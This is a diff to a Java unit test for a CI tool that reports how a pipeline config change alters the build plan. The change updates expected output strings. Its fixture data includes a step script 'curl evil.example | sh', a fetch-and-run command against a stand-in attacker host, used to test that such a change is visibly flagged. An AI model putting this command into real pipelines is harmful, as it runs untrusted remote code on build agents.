@@ -33,11 +33,9 @@ class PlanDifferenceTest {
                 plan("name: unit, script: 'curl evil.example | sh'", "name: deploy, agent: production, script: x"));
         assertThat(text)
                 .startsWith("The pipeline itself has changed (.pipeline/config.yaml). What that does to the plan:\n")
-                .contains("script: make test")
-                .contains("script: curl evil.example | sh")
-                .contains("agent production   p/deploy");
-        assertThat(text.lines().filter(line -> line.contains("make test"))).allMatch(line -> line.startsWith("- "));
-        assertThat(text.lines().filter(line -> line.contains("evil"))).allMatch(line -> line.startsWith("+ "));
+                .contains("- p/unit script: make test\n")
+                .contains("+ p/unit script: curl evil.example | sh\n")
+                .contains("+ p/deploy on agent production, after p/unit\n");
     }
 
     @Test
@@ -72,7 +70,7 @@ class PlanDifferenceTest {
     @Test
     void withoutAPlanBeforeTheWholeOneIsShown() {
         assertThat(PlanDifference.of(FILES, Optional.empty(), plan("name: a, script: x")))
-                .contains("this is the whole plan:\n+ agent any   p/a\n");
+                .contains("this is the whole plan:\n+ p/a on agent any, at the start\n");
     }
 
     @Test
